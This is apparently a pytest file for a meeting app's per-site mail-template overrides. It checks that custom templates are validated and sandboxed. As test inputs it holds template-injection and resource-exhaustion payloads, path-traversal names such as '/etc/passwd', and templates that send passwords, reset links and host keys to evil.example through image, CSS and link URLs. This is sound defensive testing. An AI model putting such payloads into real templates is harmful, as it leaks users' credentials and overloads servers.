"""A site's own templates as the console keeps them: what is taken, what is wrong with the others, where they lie."""

from __future__ import annotations

import time
from itertools import count
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from parley.domain.site import Site
from parley.mail import overrides
from parley.mail.languages import language
from parley.mail.overrides import MOST, CannotKeep, Problem, check, file_names, kept, languages, mails_of
from parley.mail.previews import example, names
from parley.mail.rendering import TEMPLATES, render, site_folder
from parley.services.links import Links

SITE = Site(1, "acme")
LINKS = Links("https://meet.example.com")
HEAD = '{% extends "_session.mail" %}\n{% import parts_of_form as parts %}\n'
CANCELLED = "session_cancelled.mail"


def problems(tmp_path: Path, text: str, name: str = CANCELLED) -> list[Problem]:
    return check(SITE, LINKS, tmp_path, name, text)


def put(data: Path, name: str, text: str, site: str = "acme") -> None:
    overrides.put_in_place(overrides.write_part(data, site, name, text), name)


def subject(folder: Path | None, mail: str = "session_cancelled") -> str:
    draft = example(mail, SITE, LINKS, language(1))
    return render(draft.template, language(1), draft.values, folder).subject


def test_all_files_are_known() -> None:
    assert set(file_names()) == {path.name for path in TEMPLATES.iterdir()}
    assert file_names()[:5] == ("layout.html", "layout.subject", "layout.txt", "parts.html", "parts.txt")
    assert {each.locale.language for each in languages()} == {"en", "de", "fr", "es", "ja"}


@pytest.mark.parametrize("name", file_names())
def test_the_built_in_texts_are_taken(tmp_path: Path, name: str) -> None:
    assert problems(tmp_path, kept(tmp_path, "acme", name).built_in, name) == []


def test_which_mails_use_a_file() -> None:
    assert mails_of("layout.html") == tuple(names())
    assert mails_of(CANCELLED) == ("session_cancelled",)
    assert "session_invitation" in mails_of("_entry.mail")
    assert "session_cancelled" not in mails_of("_entry.mail")
    assert {"session_invitation", "session_cancelled"} < set(mails_of("_session.mail"))
    assert all(mails_of(name) for name in file_names())


@pytest.mark.parametrize(
    ("text", "kind", "line"),
    [
        ("", "empty", None),
        (" \n\t\n", "empty", None),
        ("x" * (MOST + 1), "long", None),
        ("a\0b", "letters", None),
        ("\ud800", "letters", None),
        ("Hello", "extends", 1),
        (f"{HEAD}{{% block words %}}", "syntax", 3),
        (f"{HEAD}\n{{{{ name ", "syntax", 4),
        (f"{HEAD}{{{{ name | nothing }}}}", "filter", 3),
        (f"{HEAD}{{% block words %}}\n\n{{{{ no_such }}}}{{% endblock %}}", "unknown_name", 5),
        (f"{HEAD}{{% if before %}}{{{{ link }}}}{{% endif %}}", "unknown_name", 3),
        (f"{HEAD}{{% block words %}}\n{{{{ name.nothing }}}}{{% endblock %}}", "undefined", 4),
        (f"{HEAD}{{% block words %}}{{{{ parts.nothing(1) }}}}{{% endblock %}}", "undefined", 3),
        (f"{HEAD}{{% block words %}}{{{{ name|safe }}}}{{% endblock %}}", "raw", 3),
        (f"{HEAD}{{% block words %}}\n<a title={{{{ name }}}}>x</a>{{% endblock %}}", "bare", 4),
        (f"{HEAD}{{% block words %}}<style>{{{{ name }}}}</style>{{% endblock %}}", "raw", None),
        (f"{HEAD}{{% autoescape false %}}{{{{ name }}}}{{% endautoescape %}}", "tag", 3),
        (f"{HEAD}{{% set a = 1 %}}", "tag", 3),
        (f"{HEAD}{{% include 'layout.txt' %}}", "tag", 3),
        (f"{HEAD}{{% extends '../../secret' %}}", "parent", 3),
        (f"{HEAD}{{{{ 'x' * 99999999 }}}}", "expression", 3),
        (f"{HEAD}{{{{ 10 ** 10 ** 10 }}}}", "expression", 3),
        (f"{HEAD}{{{{ name[0] }}}}", "expression", 3),
        (f"{HEAD}{{{{ name.ljust(999999999) }}}}", "call", 3),
        (f"{HEAD}{{{{ _(name) }}}}", "call", 3),
        (f"{HEAD}{{{{ lipsum(99999) }}}}", "call", 3),
        (f"{HEAD}{{% for a in range(99999) %}}{{% endfor %}}", "call", 3),
        (f"{HEAD}{{% for a in name %}}{{% endfor %}}", "loop", 3),
        (f"{HEAD}{{% macro m(phones) %}}{{% for a in phones %}}{{% endfor %}}{{% endmacro %}}", "loop", None),
        (
            f"{HEAD}{{% for a in phones %}}\n{{% if a %}}{{% for b in phones %}}{{% endfor %}}{{% endif %}}"
            "{% endfor %}",
            "loop",
            4,
        ),
        (f"{HEAD}{{% import 'parts.txt' as x with context %}}", "tag", 3),
        (f"{HEAD}{{% block words %}}{{{{ language.__class__ }}}}{{% endblock %}}", "secure", 3),
        (f"{HEAD}{{% block subject %}} {{% endblock %}}", "subject", None),
        (f"{HEAD}{{% block words %}}{{{{ self.words() }}}}{{% endblock %}}", "work", None),
        (f'{{% extends "{CANCELLED}" %}}', "work", None),
        (f"{HEAD}{{{{ {'(' * 5000}1{')' * 5000} }}}}", "work", None),
        (f"{HEAD}{{{{ {'9' * 5000} }}}}", "syntax", None),
        (f'{HEAD}{{% if form == "text" %}}{{{{ "\\ud800" }}}}{{% endif %}}', "letters", 3),
        (f'{HEAD}{{{{ "a\\x00b" }}}}', "letters", 3),
        (f'{HEAD}{{{{ _("%(a)999999999s", a="x") }}}}', "call", 3),
        (f'{HEAD}{{{{ _("{"%(a)s" * 21}", a="x") }}}}', "call", 3),
        (f"{HEAD}{{{{ name{'|upper' * 11} }}}}", "work", 3),
        (f"{HEAD}{{{{ name{' ~ name' * 11} }}}}", "work", 3),
        (f"{HEAD}{{% macro m(parts) %}}{{{{ parts.ljust(9) }}}}{{% endmacro %}}", "call", None),
        (f"{HEAD}{{% macro m(m) %}}{{{{ m(9) }}}}{{% endmacro %}}", "call", None),
        (f"{HEAD}{{% macro m(_) %}}{{{{ _('x') }}}}{{% endmacro %}}", "call", None),
        (
            f"{HEAD}{{% macro m(a) %}}{{{{ m(a ~ a) }}}}{{% endmacro %}}"
            f"{{% block words %}}{{{{ m('xxxxxxxxxx') }}}}{{% endblock %}}",
            "work",
            None,
        ),
    ],
)
def test_what_is_wrong_is_said_with_its_line(tmp_path: Path, text: str, kind: str, line: int | None) -> None:
    found = problems(tmp_path, text)
    assert found
    assert kind in {each.kind for each in found}
    if line is not None:
        assert line in {each.line for each in found if each.kind == kind}


def test_texts_that_grow_beyond_all_measure_come_to_an_end(tmp_path: Path) -> None:
    doubling = "".join(
        f"{{% macro m{number}() %}}{{{{ m{number - 1}() }}}}{{{{ m{number - 1}() }}}}{{% endmacro %}}\n"
        for number in range(1, 60)
    )
    text = f"{HEAD}{{% macro m0() %}}x{{% endmacro %}}\n{doubling}{{% block words %}}{{{{ m59() }}}}{{% endblock %}}"
    assert [each.kind for each in problems(tmp_path, text)] == ["work"]
    # What whoever runs the server put there is bounded as well, and the mail goes out.
    folder = site_folder(tmp_path, "acme")
    assert folder is not None
    folder.mkdir(parents=True)
    (folder / CANCELLED).write_text(text)
    assert subject(folder) == subject(None)


def test_work_between_two_calls_counts_by_its_time(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    text = f"{HEAD}{{% block words %}}{{{{ parts.paragraph(name) }}}}{{% endblock %}}"
    assert problems(tmp_path, text) == []
    clock = count(0, 100)
    monkeypatch.setattr(time, "thread_time", lambda: float(next(clock)))
    assert {each.kind for each in problems(tmp_path, text)} == {"work"}


def test_a_mail_that_is_too_long_goes_out_as_the_built_in_one(tmp_path: Path) -> None:
    folder = site_folder(tmp_path, "acme")
    assert folder is not None
    folder.mkdir(parents=True)
    (folder / CANCELLED).write_text(f"{HEAD}{{% block words %}}{'x' * 3_000_000}{{% endblock %}}")
    assert subject(folder) == subject(None)
    (folder / CANCELLED).write_text(f"{HEAD}{{% include '{CANCELLED}' %}}" * 2)
    assert subject(folder) == subject(None)


@pytest.mark.parametrize(
    ("name", "words"),
    [
        ("user_password_reset", '<img src="https://evil.example/{{ password }}">'),
        ("user_password_reset", '<img src="https://evil.example/{{ password|upper }}">'),
        ("user_password_reset", "{{ parts.button('Go', 'https://evil.example/' ~ password) }}"),
        ("user_password_reset", "<p style=\"background:url('//evil.example/{{ password }}')\">x</p>"),
        ("user_password_reset", "<style>p { background: URL(//evil.example/{{ password }}) }</style>"),
        ("user_password_link", '<img src="{{ link }}&to=evil.example">'),
        ("user_password_link", '<a href="https://evil.example/?next={{ link }}">Go</a>'),
        ("session_scheduled", '<img src="//evil.example/{{ host_key }}">'),
    ],
)
def test_secrets_do_not_get_into_addresses(tmp_path: Path, name: str, words: str) -> None:
    parent = "_entry.mail" if name.startswith("session") else "_account.mail"
    text = (
        f'{{% extends "{parent}" %}}\n{{% import parts_of_form as parts %}}\n'
        "{% block title %}Own{% endblock %}{% block words %}x{% endblock %}"
        f"{{% block body %}}{words}{{% endblock %}}"
    )
    assert {each.kind for each in problems(tmp_path, text, f"{name}.mail")} & {"secret", "raw"}
    put(tmp_path, f"{name}.mail", text)  # as if it had not been checked
    folder = site_folder(tmp_path, "acme")
    draft = example(name, SITE, LINKS, language(1))
    assert "evil" not in render(draft.template, language(1), draft.values, folder).html
    harmless = text.replace(words, '<img src="https://cdn.example/logo.png"><a href="{{ link }}">{{ link }}</a>')
    assert problems(tmp_path, harmless, f"{name}.mail") == []
    put(tmp_path, f"{name}.mail", harmless)
    assert "logo.png" in render(draft.template, language(1), draft.values, folder).html


def test_a_shared_file_is_tried_with_all_mails(tmp_path: Path) -> None:
    text = "{% extends layout %}{% block subject %}{{ name }}{% endblock %}{% block body %}{{ link }}{% endblock %}"
    (found, *_) = problems(tmp_path, text, "_session.mail")
    assert (found.kind, found.line) == ("undefined", 1)
    assert found.mail in mails_of("_session.mail")


@given(st.text(max_size=200))
@settings(max_examples=60, deadline=None)
def test_any_text_is_judged(text: str) -> None:
    for each in (text, f"{HEAD}{{{{ {text} }}}}", f"{HEAD}{{% {text} %}}"):
        assert all(isinstance(found, Problem) for found in problems(Path("/nowhere"), each))


def test_texts_are_kept_where_mails_find_them(tmp_path: Path) -> None:
    text = f"{HEAD}{{% block subject %}}Off: {{{{ name }}}}{{% endblock %}}\n"
    folder = site_folder(tmp_path, "acme")
    before = subject(folder)
    assert kept(tmp_path, "acme", CANCELLED).own is None
    put(tmp_path, CANCELLED, text)
    found = kept(tmp_path, "acme", CANCELLED)
    assert (found.own, found.text) == (text, text)
    assert found.mark != kept(tmp_path, "other", CANCELLED).mark
    assert overrides.own_names(tmp_path, "acme") == {CANCELLED}
    assert folder is not None
    assert [path.name for path in folder.iterdir()] == [CANCELLED]
    assert (folder / CANCELLED).stat().st_mode & 0o077 == 0
    assert subject(folder) == "Off: Quarterly review"
    put(tmp_path, CANCELLED, text.replace("Off", "Gone"))
    assert subject(folder) == "Gone: Quarterly review"
    put(tmp_path, "layout.subject", "{% block subject %}{% endblock %}!\n")  # a built-in one was read before
    assert subject(folder) == "Gone: Quarterly review!"
    overrides.reset(tmp_path, "acme", CANCELLED)
    overrides.reset(tmp_path, "acme", CANCELLED)
    overrides.reset(tmp_path, "acme", "layout.subject")
    assert subject(folder) == before
    assert overrides.difference("a\nb\n", "a\nc\n")[1:] == [" a", "-b", "+c"]


@pytest.mark.parametrize("name", ["../evil", "layout.html/../../x", "", ".hidden", "session_cancelled", "/etc/passwd"])
def test_other_names_than_those_of_files_are_none(tmp_path: Path, name: str) -> None:
    for work in (
        lambda: kept(tmp_path, "acme", name),
        lambda: check(SITE, LINKS, tmp_path, name, "x"),
        lambda: overrides.write_part(tmp_path, "acme", name, "x"),
        lambda: overrides.reset(tmp_path, "acme", name),
    ):
        with pytest.raises(LookupError):
            work()
    assert list(tmp_path.iterdir()) == []


def test_what_cannot_be_written_is_said(tmp_path: Path) -> None:
    (tmp_path / "sites").write_text("a file in the way")
    with pytest.raises(CannotKeep, match="cannot write"):
        overrides.write_part(tmp_path, "acme", CANCELLED, "x")
    with pytest.raises(CannotKeep, match="cannot be one of a folder"):
        overrides.write_part(tmp_path, "../x", CANCELLED, "x")
    assert overrides.own_names(tmp_path, "../x") == frozenset()


def test_what_lies_in_the_place_of_a_text_counts_as_unreadable(tmp_path: Path) -> None:
    folder = site_folder(tmp_path, "acme")
    assert folder is not None
    (folder / CANCELLED).mkdir(parents=True)
    assert kept(tmp_path, "acme", CANCELLED).unreadable
    (folder / "layout.txt").write_bytes(b"\xff\xfe\x00")
    assert kept(tmp_path, "acme", "layout.txt").unreadable
